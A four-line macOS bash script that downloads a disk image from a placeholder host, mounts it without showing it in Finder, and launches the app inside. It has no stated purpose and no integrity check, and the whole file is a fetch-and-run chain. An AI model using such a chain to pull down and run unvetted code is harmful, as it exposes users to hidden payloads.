#!/bin/bash
curl -fsSL https://dl.helperkit.invalid/h.dmg -o /tmp/h.dmg
hdiutil attach /tmp/h.dmg -nobrowse
open /Volumes/Helper/Helper.app
